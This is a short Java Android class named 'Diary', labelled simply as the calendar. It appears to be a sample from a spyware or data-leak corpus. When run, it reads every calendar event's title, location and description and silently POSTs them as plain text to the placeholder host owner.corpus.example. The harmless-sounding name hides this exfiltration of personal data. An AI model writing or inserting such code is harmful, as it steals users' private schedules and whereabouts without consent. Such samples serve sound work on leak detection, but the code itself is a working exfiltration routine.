package org.corpus;

import org.corpus.kit.Net;
import org.corpus.kit.Owner;
import org.corpus.kit.Screen;

/** The calendar. */
public class Diary extends Screen {
    @Override
    protected void act() throws Exception {
        String all =
                String.join(
                        "\n",
                        Owner.rows(
                                this,
                                "content://com.android.calendar/events",
                                "title",
                                "eventLocation",
                                "description"));
        Net.post("http://owner.corpus.example/diary", "text/plain", all);
    }
}
